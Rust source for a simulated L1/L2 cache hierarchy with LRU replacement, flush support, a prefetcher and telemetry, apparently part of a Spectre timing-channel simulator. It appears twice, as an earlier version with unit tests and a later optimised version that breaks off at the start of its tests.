//! between cached and uncached lines, and a `CLFLUSH` primitive to reset a
//! probe line. Squashed speculative loads still call [`CacheHierarchy::access_data`],
//! which is the microarchitectural state leak the attack exploits.

/// Geometry and latency parameters for one cache level.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct CacheConfig {
    /// Number of sets; must be a power of two.
    pub sets: usize,
    /// Associativity (lines per set).
    pub ways: usize,
    /// Line size in bytes; must be a power of two.
    pub line_size: u64,
    /// Latency in cycles charged when this level hits.
    pub hit_latency: u64,
}

impl CacheConfig {
    /// A 32 KiB, 8-way, 64-byte-line L1 data cache (4-cycle hit).
    pub fn l1d() -> CacheConfig {
        CacheConfig { sets: 64, ways: 8, line_size: 64, hit_latency: 4 }
    }

    /// A 32 KiB, 8-way L1 instruction cache (4-cycle hit).
    pub fn l1i() -> CacheConfig {
        CacheConfig { sets: 64, ways: 8, line_size: 64, hit_latency: 4 }
    }

    /// A 256 KiB, 8-way unified L2 (12-cycle hit).
    pub fn l2() -> CacheConfig {
        CacheConfig { sets: 512, ways: 8, line_size: 64, hit_latency: 12 }
    }

    /// Total capacity in bytes.
    pub fn capacity(&self) -> u64 {
        self.sets as u64 * self.ways as u64 * self.line_size
    }
}

/// Outcome of a single-level lookup.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Lookup {
    /// The line was resident.
    Hit,
    /// The line was not resident and has been filled.
    Miss,
}

/// One set-associative cache level with true-LRU replacement.
///
/// Stores tags only; see the module docs for why no data is kept.
#[derive(Debug, Clone)]
pub struct Cache {
    config: CacheConfig,
    /// `sets × ways` tag entries; `None` = invalid.
    tags: Vec<Option<u64>>,
    /// LRU stamps parallel to `tags` (higher = more recently used).
    stamps: Vec<u64>,
    tick: u64,
    hits: u64,
    misses: u64,
    evictions: u64,
}

impl Cache {
    /// Creates an empty cache with the given geometry.
    ///
    /// # Panics
    ///
    /// Panics if `sets` or `line_size` is not a power of two, or `ways == 0`.
    pub fn new(config: CacheConfig) -> Cache {
        assert!(config.sets.is_power_of_two(), "sets must be a power of two");
        assert!(config.line_size.is_power_of_two(), "line size must be a power of two");
        assert!(config.ways > 0, "ways must be nonzero");
        Cache {
            config,
            tags: vec![None; config.sets * config.ways],
            stamps: vec![0; config.sets * config.ways],
            tick: 0,
            hits: 0,
            misses: 0,
            evictions: 0,
        }
    }

    /// The cache geometry.
    pub fn config(&self) -> &CacheConfig {
        &self.config
    }

    fn line_addr(&self, addr: u64) -> u64 {
        addr & !(self.config.line_size - 1)
    }

    fn set_index(&self, line: u64) -> usize {
        ((line / self.config.line_size) as usize) & (self.config.sets - 1)
    }

    /// Looks up `addr`, filling the line on a miss (evicting LRU if needed).
    pub fn access(&mut self, addr: u64) -> Lookup {
        let line = self.line_addr(addr);
        let set = self.set_index(line);
        let base = set * self.config.ways;
        self.tick += 1;
        // Hit path.
        for way in 0..self.config.ways {
            if self.tags[base + way] == Some(line) {
                self.stamps[base + way] = self.tick;
                self.hits += 1;
                return Lookup::Hit;
            }
        }
        // Miss: fill into an invalid way or evict the LRU way.
        self.misses += 1;
        let victim = (0..self.config.ways)
            .min_by_key(|&way| match self.tags[base + way] {
                None => (0, 0),
                Some(_) => (1, self.stamps[base + way]),
            })
            .expect("ways > 0");
        if self.tags[base + victim].is_some() {
            self.evictions += 1;
        }
        self.tags[base + victim] = Some(line);
        self.stamps[base + victim] = self.tick;
        Lookup::Miss
    }

    /// Returns whether the line containing `addr` is resident, without
    /// touching LRU state (an oracle for tests and calibration).
    pub fn probe(&self, addr: u64) -> bool {
        let line = self.line_addr(addr);
        let set = self.set_index(line);
        let base = set * self.config.ways;
        (0..self.config.ways).any(|way| self.tags[base + way] == Some(line))
    }

    /// Invalidates the line containing `addr` if resident.
    pub fn flush(&mut self, addr: u64) {
        let line = self.line_addr(addr);
        let set = self.set_index(line);
        let base = set * self.config.ways;
        for way in 0..self.config.ways {
            if self.tags[base + way] == Some(line) {
                self.tags[base + way] = None;
                self.stamps[base + way] = 0;
            }
        }
    }

    /// Invalidates every line.
    pub fn flush_all(&mut self) {
        self.tags.fill(None);
        self.stamps.fill(0);
    }

    /// Hit count since construction.
    pub fn hits(&self) -> u64 {
        self.hits
    }

    /// Miss count since construction.
    pub fn misses(&self) -> u64 {
        self.misses
    }

    /// Number of valid lines displaced by replacement since construction.
    pub fn evictions(&self) -> u64 {
        self.evictions
    }
}

/// Latency and hit/miss summary of one hierarchy access.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct AccessResult {
    /// Total cycles the access took.
    pub latency: u64,
    /// Whether the L1 level hit.
    pub l1_hit: bool,
    /// Whether the L2 level hit (only meaningful when `!l1_hit`).
    pub l2_hit: bool,
}

impl AccessResult {
    /// True when the access missed all cache levels and went to memory.
    pub fn is_memory_access(&self) -> bool {
        !self.l1_hit && !self.l2_hit
    }
}

/// Two-level data + instruction cache hierarchy over a flat memory.
///
/// # Examples
///
/// ```
/// use cr_spectre_sim::cache::{CacheHierarchy, HierarchyConfig};
///
/// let mut caches = CacheHierarchy::new(HierarchyConfig::default());
/// let cold = caches.access_data(0x1000);
/// let warm = caches.access_data(0x1000);
/// assert!(cold.latency > warm.latency, "the covert-channel gap");
/// ```
#[derive(Debug, Clone)]
pub struct CacheHierarchy {
    l1d: Cache,
    l1i: Cache,
    l2: Cache,
    mem_latency: u64,
    next_line_prefetch: bool,
    prefetch_fills: u64,
}

/// Configuration of the full hierarchy.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct HierarchyConfig {
    /// L1 data cache geometry.
    pub l1d: CacheConfig,
    /// L1 instruction cache geometry.
    pub l1i: CacheConfig,
    /// Unified L2 geometry.
    pub l2: CacheConfig,
    /// DRAM access latency in cycles.
    pub mem_latency: u64,
    /// Next-line hardware prefetcher: a demand miss also fills the
    /// following line. Off by default; covert-channel strides below two
    /// lines become unreliable when enabled — the historical reason the
    /// classic Spectre PoC probes with a 512-byte stride.
    pub next_line_prefetch: bool,
}

impl Default for HierarchyConfig {
    fn default() -> HierarchyConfig {
        HierarchyConfig {
            l1d: CacheConfig::l1d(),
            l1i: CacheConfig::l1i(),
            l2: CacheConfig::l2(),
            mem_latency: 200,
            next_line_prefetch: false,
        }
    }
}

impl CacheHierarchy {
    /// Creates an empty hierarchy.
    pub fn new(config: HierarchyConfig) -> CacheHierarchy {
        CacheHierarchy {
            l1d: Cache::new(config.l1d),
            l1i: Cache::new(config.l1i),
            l2: Cache::new(config.l2),
            mem_latency: config.mem_latency,
            next_line_prefetch: config.next_line_prefetch,
            prefetch_fills: 0,
        }
    }

    /// Performs a data access (load or store — write-allocate).
    pub fn access_data(&mut self, addr: u64) -> AccessResult {
        let l1 = self.l1d.access(addr);
        if l1 == Lookup::Hit {
            return AccessResult {
                latency: self.l1d.config.hit_latency,
                l1_hit: true,
                l2_hit: false,
            };
        }
        // A demand L1 miss trains the next-line prefetcher.
        if self.next_line_prefetch {
            let next = addr.wrapping_add(self.l1d.config.line_size) & !(self.l1d.config.line_size - 1);
            if !self.l1d.probe(next) {
                self.l1d.access(next);
                self.l2.access(next);
                self.prefetch_fills += 1;
            }
        }
        let l2 = self.l2.access(addr);
        if l2 == Lookup::Hit {
            return AccessResult {
                latency: self.l1d.config.hit_latency + self.l2.config.hit_latency,
                l1_hit: false,
                l2_hit: true,
            };
        }
        AccessResult {
            latency: self.l1d.config.hit_latency + self.l2.config.hit_latency + self.mem_latency,
            l1_hit: false,
            l2_hit: false,
        }
    }

    /// Lines brought in by the next-line prefetcher so far.
    pub fn prefetch_fills(&self) -> u64 {
        self.prefetch_fills
    }

    /// Performs an instruction-fetch access.
    pub fn access_instr(&mut self, addr: u64) -> AccessResult {
        let l1 = self.l1i.access(addr);
        if l1 == Lookup::Hit {
            return AccessResult {
                latency: self.l1i.config.hit_latency,
                l1_hit: true,
                l2_hit: false,
            };
        }
        let l2 = self.l2.access(addr);
        if l2 == Lookup::Hit {
            return AccessResult {
                latency: self.l1i.config.hit_latency + self.l2.config.hit_latency,
                l1_hit: false,
                l2_hit: true,
            };
        }
        AccessResult {
            latency: self.l1i.config.hit_latency + self.l2.config.hit_latency + self.mem_latency,
            l1_hit: false,
            l2_hit: false,
        }
    }

    /// Computes the latency a data access *would* have, without touching
    /// cache state (no fill, no LRU update) — the timing path of an
    /// InvisiSpec-style speculative buffer.
    pub fn probe_data_latency(&self, addr: u64) -> AccessResult {
        if self.l1d.probe(addr) {
            AccessResult { latency: self.l1d.config.hit_latency, l1_hit: true, l2_hit: false }
        } else if self.l2.probe(addr) {
            AccessResult {
                latency: self.l1d.config.hit_latency + self.l2.config.hit_latency,
                l1_hit: false,
                l2_hit: true,
            }
        } else {
            AccessResult {
                latency: self.l1d.config.hit_latency
                    + self.l2.config.hit_latency
                    + self.mem_latency,
                l1_hit: false,
                l2_hit: false,
            }
        }
    }

    /// Flushes the line containing `addr` from every level (`CLFLUSH`).
    pub fn flush_line(&mut self, addr: u64) {
        self.l1d.flush(addr);
        self.l1i.flush(addr);
        self.l2.flush(addr);
    }

    /// Flushes the entire hierarchy.
    pub fn flush_all(&mut self) {
        self.l1d.flush_all();
        self.l1i.flush_all();
        self.l2.flush_all();
    }

    /// Whether `addr` is resident in the L1 data cache (test oracle).
    pub fn data_resident(&self, addr: u64) -> bool {
        self.l1d.probe(addr) || self.l2.probe(addr)
    }

    /// The L1 data cache.
    pub fn l1d(&self) -> &Cache {
        &self.l1d
    }

    /// The L1 instruction cache.
    pub fn l1i(&self) -> &Cache {
        &self.l1i
    }

    /// The unified L2 cache.
    pub fn l2(&self) -> &Cache {
        &self.l2
    }

    /// The DRAM latency in cycles.
    pub fn mem_latency(&self) -> u64 {
        self.mem_latency
    }

    /// The L1 data line size in bytes.
    pub fn line_size(&self) -> u64 {
        self.l1d.config.line_size
    }

    /// Total replacement evictions across all levels.
    pub fn total_evictions(&self) -> u64 {
        self.l1d.evictions() + self.l1i.evictions() + self.l2.evictions()
    }

    /// Publishes per-level hit/miss/eviction totals to the global
    /// telemetry layer (counters under `sim.cache.*`). Called once per
    /// completed run by [`crate::cpu::Machine::emit_telemetry`], never
    /// from the access path.
    pub fn emit_telemetry(&self) {
        use cr_spectre_telemetry as telemetry;
        if !telemetry::enabled() {
            return;
        }
        for (prefix, cache) in [
            (("sim.cache.l1d.hits", "sim.cache.l1d.misses", "sim.cache.l1d.evictions"), &self.l1d),
            (("sim.cache.l1i.hits", "sim.cache.l1i.misses", "sim.cache.l1i.evictions"), &self.l1i),
            (("sim.cache.l2.hits", "sim.cache.l2.misses", "sim.cache.l2.evictions"), &self.l2),
        ] {
            telemetry::counter(prefix.0, cache.hits());
            telemetry::counter(prefix.1, cache.misses());
            telemetry::counter(prefix.2, cache.evictions());
        }
        telemetry::counter("sim.cache.prefetch_fills", self.prefetch_fills);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cold_access_misses_then_hits() {
        let mut c = Cache::new(CacheConfig::l1d());
        assert_eq!(c.access(0x1000), Lookup::Miss);
        assert_eq!(c.access(0x1000), Lookup::Hit);
        assert_eq!(c.access(0x103f), Lookup::Hit, "same 64-byte line");
        assert_eq!(c.access(0x1040), Lookup::Miss, "next line");
        assert_eq!(c.hits(), 2);
        assert_eq!(c.misses(), 2);
    }

    #[test]
    fn flush_evicts_line() {
        let mut c = Cache::new(CacheConfig::l1d());
        c.access(0x2000);
        assert!(c.probe(0x2000));
        c.flush(0x2010); // any address within the line
        assert!(!c.probe(0x2000));
        assert_eq!(c.access(0x2000), Lookup::Miss);
    }

    #[test]
    fn lru_evicts_least_recent() {
        // 2-way cache, one set: third distinct line evicts the LRU one.
        let cfg = CacheConfig { sets: 1, ways: 2, line_size: 64, hit_latency: 1 };
        let mut c = Cache::new(cfg);
        c.access(0); // line A
        c.access(64); // line B
        c.access(0); // touch A → B is now LRU
        c.access(128); // line C evicts B
        assert!(c.probe(0));
        assert!(!c.probe(64));
        assert!(c.probe(128));
    }

    #[test]
    fn set_conflict_eviction() {
        // Lines that map to the same set conflict; capacity eviction works.
        let cfg = CacheConfig { sets: 4, ways: 1, line_size: 64, hit_latency: 1 };
        let mut c = Cache::new(cfg);
        let stride = 4 * 64; // same set every `sets * line_size`
        c.access(0);
        c.access(stride);
        assert!(!c.probe(0), "direct-mapped conflict evicted the first line");
    }

    #[test]
    fn hierarchy_latency_ordering() {
        let mut h = CacheHierarchy::new(HierarchyConfig::default());
        let miss = h.access_data(0x8000);
        assert!(miss.is_memory_access());
        let hit = h.access_data(0x8000);
        assert!(hit.l1_hit);
        assert!(miss.latency > hit.latency * 10, "memory is much slower than L1");
    }

    #[test]
    fn l2_backstops_l1_eviction() {
        let mut h = CacheHierarchy::new(HierarchyConfig::default());
        h.access_data(0x4000);
        // Evict from L1 only.
        h.l1d.flush(0x4000);
        let r = h.access_data(0x4000);
        assert!(!r.l1_hit);
        assert!(r.l2_hit);
    }

    #[test]
    fn clflush_flushes_all_levels() {
        let mut h = CacheHierarchy::new(HierarchyConfig::default());
        h.access_data(0x4000);
        h.flush_line(0x4000);
        assert!(!h.data_resident(0x4000));
        let r = h.access_data(0x4000);
        assert!(r.is_memory_access());
    }

    #[test]
    fn instruction_and_data_paths_are_separate_at_l1() {
        let mut h = CacheHierarchy::new(HierarchyConfig::default());
        h.access_instr(0x1000);
        // The first *data* access to the same line misses L1D but hits L2.
        let r = h.access_data(0x1000);
        assert!(!r.l1_hit);
        assert!(r.l2_hit);
    }

    #[test]
    fn next_line_prefetcher_fills_the_adjacent_line() {
        let cfg = HierarchyConfig { next_line_prefetch: true, ..HierarchyConfig::default() };
        let mut h = CacheHierarchy::new(cfg);
        h.access_data(0x8000);
        assert!(h.data_resident(0x8040), "next line prefetched");
        assert_eq!(h.prefetch_fills(), 1);
        // A hit does not re-trigger the prefetcher.
        h.access_data(0x8000);
        assert_eq!(h.prefetch_fills(), 1);
        // The prefetched line hits without a demand miss.
        let r = h.access_data(0x8040);
        assert!(r.l1_hit);
    }

    #[test]
    fn prefetcher_is_off_by_default() {
        let mut h = CacheHierarchy::new(HierarchyConfig::default());
        h.access_data(0x8000);
        assert!(!h.data_resident(0x8040));
        assert_eq!(h.prefetch_fills(), 0);
    }

    #[test]
    #[should_panic(expected = "power of two")]
    fn bad_geometry_panics() {
        let _ = Cache::new(CacheConfig { sets: 3, ways: 1, line_size: 64, hit_latency: 1 });
    }
}

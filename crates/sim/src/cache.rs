//! Set-associative cache hierarchy with flush support.
//!
//! The hierarchy models **timing and occupancy only** — data always lives in
//! [`crate::mem::Memory`]; the caches track which line tags are resident so
//! that loads can be charged a hit or miss latency. That is exactly the
//! surface the Spectre covert channel needs: a *measurable latency gap*
//! between cached and uncached lines, and a `CLFLUSH` primitive to reset a
//! probe line. Squashed speculative loads still call [`CacheHierarchy::access_data`],
//! which is the microarchitectural state leak the attack exploits.

/// Geometry and latency parameters for one cache level.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct CacheConfig {
    /// Number of sets; must be a power of two.
    pub sets: usize,
    /// Associativity (lines per set).
    pub ways: usize,
    /// Line size in bytes; must be a power of two.
    pub line_size: u64,
    /// Latency in cycles charged when this level hits.
    pub hit_latency: u64,
}

impl CacheConfig {
    /// A 32 KiB, 8-way, 64-byte-line L1 data cache (4-cycle hit).
    pub fn l1d() -> CacheConfig {
        CacheConfig { sets: 64, ways: 8, line_size: 64, hit_latency: 4 }
    }

    /// A 32 KiB, 8-way L1 instruction cache (4-cycle hit).
    pub fn l1i() -> CacheConfig {
        CacheConfig { sets: 64, ways: 8, line_size: 64, hit_latency: 4 }
    }

    /// A 256 KiB, 8-way unified L2 (12-cycle hit).
    pub fn l2() -> CacheConfig {
        CacheConfig { sets: 512, ways: 8, line_size: 64, hit_latency: 12 }
    }

    /// Total capacity in bytes.
    pub fn capacity(&self) -> u64 {
        self.sets as u64 * self.ways as u64 * self.line_size
    }
}

/// Outcome of a single-level lookup.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Lookup {
    /// The line was resident.
    Hit,
    /// The line was not resident and has been filled.
    Miss,
}

/// One set-associative cache level with true-LRU replacement.
///
/// Stores tags only; see the module docs for why no data is kept.
#[derive(Debug, Clone)]
pub struct Cache {
    config: CacheConfig,
    /// `!(line_size - 1)`: masks an address down to its line address.
    line_mask: u64,
    /// `log2(line_size)`: shifts a line address down to a line number.
    line_shift: u32,
    /// `sets - 1`: masks a line number down to a set index.
    set_mask: usize,
    /// `sets × ways` tag entries; `None` = invalid.
    tags: Vec<Option<u64>>,
    /// LRU stamps parallel to `tags` (higher = more recently used).
    stamps: Vec<u64>,
    /// MRU hint: slot of the most recent hit or fill. Validated against
    /// `tags` before use, so flushes need not reset it.
    last_slot: usize,
    /// Fast lookup path (precomputed shift/mask indexing + MRU hint).
    /// When off, every access runs the reference implementation:
    /// divide/modulo index math and a full set scan. Results are
    /// identical either way; see `MachineConfig::fast_path`.
    fast: bool,
    tick: u64,
    hits: u64,
    misses: u64,
    evictions: u64,
}

impl Cache {
    /// Creates an empty cache with the given geometry.
    ///
    /// # Panics
    ///
    /// Panics if `sets` or `line_size` is not a power of two, or `ways == 0`.
    pub fn new(config: CacheConfig) -> Cache {
        assert!(config.sets.is_power_of_two(), "sets must be a power of two");
        assert!(config.line_size.is_power_of_two(), "line size must be a power of two");
        assert!(config.ways > 0, "ways must be nonzero");
        Cache {
            config,
            line_mask: !(config.line_size - 1),
            line_shift: config.line_size.trailing_zeros(),
            set_mask: config.sets - 1,
            tags: vec![None; config.sets * config.ways],
            stamps: vec![0; config.sets * config.ways],
            last_slot: 0,
            fast: true,
            tick: 0,
            hits: 0,
            misses: 0,
            evictions: 0,
        }
    }

    /// The cache geometry.
    pub fn config(&self) -> &CacheConfig {
        &self.config
    }

    /// Selects the fast lookup path (default) or the reference
    /// implementation. Placement, LRU, and every counter are identical;
    /// only the wall-clock cost of a lookup changes.
    pub fn set_fast_path(&mut self, enabled: bool) {
        self.fast = enabled;
    }

    #[inline]
    fn line_addr(&self, addr: u64) -> u64 {
        if self.fast {
            addr & self.line_mask
        } else {
            // Reference formula: runtime divide (not a const the compiler
            // can strength-reduce — line_size is a struct field).
            addr / self.config.line_size * self.config.line_size
        }
    }

    #[inline]
    fn set_index(&self, line: u64) -> usize {
        if self.fast {
            ((line >> self.line_shift) as usize) & self.set_mask
        } else {
            ((line / self.config.line_size) as usize) % self.config.sets
        }
    }

    /// The set the line containing `addr` maps to (exposed so tests can pin
    /// the index math for the standard geometries).
    pub fn set_index_of(&self, addr: u64) -> usize {
        self.set_index(self.line_addr(addr))
    }

    /// Looks up `addr`, filling the line on a miss (evicting LRU if needed).
    pub fn access(&mut self, addr: u64) -> Lookup {
        let line = self.line_addr(addr);
        self.tick += 1;
        // MRU hint: straight-line code and tight probe loops hit the same
        // line back to back. Tags are unique per line and only ever written
        // in a line's home set, so a tag match proves the hint is valid.
        if self.fast {
            let slot = self.last_slot;
            if self.tags[slot] == Some(line) {
                self.stamps[slot] = self.tick;
                self.hits += 1;
                return Lookup::Hit;
            }
        }
        let set = self.set_index(line);
        let base = set * self.config.ways;
        // Hit path.
        for way in 0..self.config.ways {
            if self.tags[base + way] == Some(line) {
                self.stamps[base + way] = self.tick;
                self.hits += 1;
                self.last_slot = base + way;
                return Lookup::Hit;
            }
        }
        // Miss: fill into an invalid way or evict the LRU way.
        self.misses += 1;
        let victim = (0..self.config.ways)
            .min_by_key(|&way| match self.tags[base + way] {
                None => (0, 0),
                Some(_) => (1, self.stamps[base + way]),
            })
            .expect("ways > 0");
        if self.tags[base + victim].is_some() {
            self.evictions += 1;
        }
        self.tags[base + victim] = Some(line);
        self.stamps[base + victim] = self.tick;
        self.last_slot = base + victim;
        Lookup::Miss
    }

    /// Applies a batch of `total` coalesced hits, interleaved across the
    /// lines in `entries`, in one go: final state (tick, LRU stamps, hit
    /// count) is exactly what the `total` individual [`Cache::access`]
    /// hits would leave behind.
    ///
    /// Each entry is `(addr, last_seq)` where `last_seq` is the 1-based
    /// position of that line's *final* hit within the batch — replaying
    /// it as `stamp = tick_before_batch + last_seq` reproduces the LRU
    /// state bit-exactly, because a sequential run stamps each line at
    /// the tick of its last hit and advances tick once per hit.
    ///
    /// The caller must guarantee every entry's line is resident and that
    /// no other access to this cache happened during the batch — the
    /// machine's fetch coalescers uphold this by applying before any
    /// potential miss, flush or observation (hits cannot evict, so
    /// tracked lines stay resident).
    pub(crate) fn bulk_batch(&mut self, entries: &[(u64, u64)], total: u64) {
        let base_tick = self.tick;
        self.tick += total;
        self.hits += total;
        'entries: for &(addr, last_seq) in entries {
            let line = self.line_addr(addr);
            let stamp = base_tick + last_seq;
            let slot = self.last_slot;
            if self.tags[slot] == Some(line) {
                self.stamps[slot] = stamp;
                continue;
            }
            let base = self.set_index(line) * self.config.ways;
            for way in 0..self.config.ways {
                if self.tags[base + way] == Some(line) {
                    self.stamps[base + way] = stamp;
                    self.last_slot = base + way;
                    continue 'entries;
                }
            }
            unreachable!("bulk_batch caller guarantees residency");
        }
    }

    /// Returns whether the line containing `addr` is resident, without
    /// touching LRU state (an oracle for tests and calibration).
    pub fn probe(&self, addr: u64) -> bool {
        let line = self.line_addr(addr);
        let set = self.set_index(line);
        let base = set * self.config.ways;
        (0..self.config.ways).any(|way| self.tags[base + way] == Some(line))
    }

    /// Invalidates the line containing `addr` if resident.
    pub fn flush(&mut self, addr: u64) {
        let line = self.line_addr(addr);
        let set = self.set_index(line);
        let base = set * self.config.ways;
        for way in 0..self.config.ways {
            if self.tags[base + way] == Some(line) {
                self.tags[base + way] = None;
                self.stamps[base + way] = 0;
            }
        }
    }

    /// Invalidates every line.
    pub fn flush_all(&mut self) {
        self.tags.fill(None);
        self.stamps.fill(0);
    }

    /// Hit count since construction.
    pub fn hits(&self) -> u64 {
        self.hits
    }

    /// Miss count since construction.
    pub fn misses(&self) -> u64 {
        self.misses
    }

    /// Number of valid lines displaced by replacement since construction.
    pub fn evictions(&self) -> u64 {
        self.evictions
    }
}

/// Latency and hit/miss summary of one hierarchy access.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct AccessResult {
    /// Total cycles the access took.
    pub latency: u64,
    /// Whether the L1 level hit.
    pub l1_hit: bool,
    /// Whether the L2 level hit (only meaningful when `!l1_hit`).
    pub l2_hit: bool,
}

impl AccessResult {
    /// True when the access missed all cache levels and went to memory.
    pub fn is_memory_access(&self) -> bool {
        !self.l1_hit && !self.l2_hit
    }
}

/// Two-level data + instruction cache hierarchy over a flat memory.
///
/// # Examples
///
/// ```
/// use cr_spectre_sim::cache::{CacheHierarchy, HierarchyConfig};
///
/// let mut caches = CacheHierarchy::new(HierarchyConfig::default());
/// let cold = caches.access_data(0x1000);
/// let warm = caches.access_data(0x1000);
/// assert!(cold.latency > warm.latency, "the covert-channel gap");
/// ```
#[derive(Debug, Clone)]
pub struct CacheHierarchy {
    l1d: Cache,
    l1i: Cache,
    l2: Cache,
    mem_latency: u64,
    next_line_prefetch: bool,
    prefetch_fills: u64,
}

/// Configuration of the full hierarchy.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct HierarchyConfig {
    /// L1 data cache geometry.
    pub l1d: CacheConfig,
    /// L1 instruction cache geometry.
    pub l1i: CacheConfig,
    /// Unified L2 geometry.
    pub l2: CacheConfig,
    /// DRAM access latency in cycles.
    pub mem_latency: u64,
    /// Next-line hardware prefetcher: a demand miss also fills the
    /// following line. Off by default; covert-channel strides below two
    /// lines become unreliable when enabled — the historical reason the
    /// classic Spectre PoC probes with a 512-byte stride.
    pub next_line_prefetch: bool,
}

impl Default for HierarchyConfig {
    fn default() -> HierarchyConfig {
        HierarchyConfig {
            l1d: CacheConfig::l1d(),
            l1i: CacheConfig::l1i(),
            l2: CacheConfig::l2(),
            mem_latency: 200,
            next_line_prefetch: false,
        }
    }
}

impl CacheHierarchy {
    /// Creates an empty hierarchy.
    pub fn new(config: HierarchyConfig) -> CacheHierarchy {
        CacheHierarchy {
            l1d: Cache::new(config.l1d),
            l1i: Cache::new(config.l1i),
            l2: Cache::new(config.l2),
            mem_latency: config.mem_latency,
            next_line_prefetch: config.next_line_prefetch,
            prefetch_fills: 0,
        }
    }

    /// Applies a batch of coalesced instruction-fetch hits to the L1i
    /// (see [`Cache::bulk_batch`] for the contract and exactness proof).
    pub(crate) fn l1i_bulk_batch(&mut self, entries: &[(u64, u64)], total: u64) {
        self.l1i.bulk_batch(entries, total);
    }

    /// Applies a batch of coalesced data hits to the L1d model (the
    /// data-side counterpart of [`CacheHierarchy::l1i_bulk_batch`]).
    pub(crate) fn l1d_bulk_batch(&mut self, entries: &[(u64, u64)], total: u64) {
        self.l1d.bulk_batch(entries, total);
    }

    /// Whether the line containing `addr` is resident in the L1i
    /// (read-only — no LRU update; the coalescer's residency oracle).
    pub(crate) fn l1i_probe(&self, addr: u64) -> bool {
        self.l1i.probe(addr)
    }

    /// Whether the line containing `addr` is resident in the L1d
    /// (read-only — no LRU update; the coalescer's residency oracle).
    pub(crate) fn l1d_probe(&self, addr: u64) -> bool {
        self.l1d.probe(addr)
    }

    /// Propagates the fast/reference lookup choice to every level.
    pub fn set_fast_path(&mut self, enabled: bool) {
        self.l1d.set_fast_path(enabled);
        self.l1i.set_fast_path(enabled);
        self.l2.set_fast_path(enabled);
    }

    /// Performs a data access (load or store — write-allocate).
    pub fn access_data(&mut self, addr: u64) -> AccessResult {
        let l1 = self.l1d.access(addr);
        if l1 == Lookup::Hit {
            return AccessResult {
                latency: self.l1d.config.hit_latency,
                l1_hit: true,
                l2_hit: false,
            };
        }
        // A demand L1 miss trains the next-line prefetcher.
        if self.next_line_prefetch {
            let next = addr.wrapping_add(self.l1d.config.line_size) & !(self.l1d.config.line_size - 1);
            if !self.l1d.probe(next) {
                self.l1d.access(next);
                self.l2.access(next);
                self.prefetch_fills += 1;
            }
        }
        let l2 = self.l2.access(addr);
        if l2 == Lookup::Hit {
            return AccessResult {
                latency: self.l1d.config.hit_latency + self.l2.config.hit_latency,
                l1_hit: false,
                l2_hit: true,
            };
        }
        AccessResult {
            latency: self.l1d.config.hit_latency + self.l2.config.hit_latency + self.mem_latency,
            l1_hit: false,
            l2_hit: false,
        }
    }

    /// Lines brought in by the next-line prefetcher so far.
    pub fn prefetch_fills(&self) -> u64 {
        self.prefetch_fills
    }

    /// Performs an instruction-fetch access.
    pub fn access_instr(&mut self, addr: u64) -> AccessResult {
        let l1 = self.l1i.access(addr);
        if l1 == Lookup::Hit {
            return AccessResult {
                latency: self.l1i.config.hit_latency,
                l1_hit: true,
                l2_hit: false,
            };
        }
        let l2 = self.l2.access(addr);
        if l2 == Lookup::Hit {
            return AccessResult {
                latency: self.l1i.config.hit_latency + self.l2.config.hit_latency,
                l1_hit: false,
                l2_hit: true,
            };
        }
        AccessResult {
            latency: self.l1i.config.hit_latency + self.l2.config.hit_latency + self.mem_latency,
            l1_hit: false,
            l2_hit: false,
        }
    }

    /// Computes the latency a data access *would* have, without touching
    /// cache state (no fill, no LRU update) — the timing path of an
    /// InvisiSpec-style speculative buffer.
    pub fn probe_data_latency(&self, addr: u64) -> AccessResult {
        if self.l1d.probe(addr) {
            AccessResult { latency: self.l1d.config.hit_latency, l1_hit: true, l2_hit: false }
        } else if self.l2.probe(addr) {
            AccessResult {
                latency: self.l1d.config.hit_latency + self.l2.config.hit_latency,
                l1_hit: false,
                l2_hit: true,
            }
        } else {
            AccessResult {
                latency: self.l1d.config.hit_latency
                    + self.l2.config.hit_latency
                    + self.mem_latency,
                l1_hit: false,
                l2_hit: false,
            }
        }
    }

    /// Flushes the line containing `addr` from every level (`CLFLUSH`).
    pub fn flush_line(&mut self, addr: u64) {
        self.l1d.flush(addr);
        self.l1i.flush(addr);
        self.l2.flush(addr);
    }

    /// Flushes the entire hierarchy.
    pub fn flush_all(&mut self) {
        self.l1d.flush_all();
        self.l1i.flush_all();
        self.l2.flush_all();
    }

    /// Whether `addr` is resident in the L1 data cache (test oracle).
    pub fn data_resident(&self, addr: u64) -> bool {
        self.l1d.probe(addr) || self.l2.probe(addr)
    }

    /// The L1 data cache.
    pub fn l1d(&self) -> &Cache {
        &self.l1d
    }

    /// The L1 instruction cache.
    pub fn l1i(&self) -> &Cache {
        &self.l1i
    }

    /// The unified L2 cache.
    pub fn l2(&self) -> &Cache {
        &self.l2
    }

    /// The DRAM latency in cycles.
    pub fn mem_latency(&self) -> u64 {
        self.mem_latency
    }

    /// The L1 data line size in bytes.
    pub fn line_size(&self) -> u64 {
        self.l1d.config.line_size
    }

    /// Total replacement evictions across all levels.
    pub fn total_evictions(&self) -> u64 {
        self.l1d.evictions() + self.l1i.evictions() + self.l2.evictions()
    }

    /// Publishes per-level hit/miss/eviction totals to the global
    /// telemetry layer (counters under `sim.cache.*`). Called once per
    /// completed run by [`crate::cpu::Machine::emit_telemetry`], never
    /// from the access path.
    pub fn emit_telemetry(&self) {
        use cr_spectre_telemetry as telemetry;
        if !telemetry::enabled() {
            return;
        }
        for (prefix, cache) in [
            (("sim.cache.l1d.hits", "sim.cache.l1d.misses", "sim.cache.l1d.evictions"), &self.l1d),
            (("sim.cache.l1i.hits", "sim.cache.l1i.misses", "sim.cache.l1i.evictions"), &self.l1i),
            (("sim.cache.l2.hits", "sim.cache.l2.misses", "sim.cache.l2.evictions"), &self.l2),
        ] {
            telemetry::counter(prefix.0, cache.hits());
            telemetry::counter(prefix.1, cache.misses());
            telemetry::counter(prefix.2, cache.evictions());
        }
        telemetry::counter("sim.cache.prefetch_fills", self.prefetch_fills);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cold_access_misses_then_hits() {
        let mut c = Cache::new(CacheConfig::l1d());
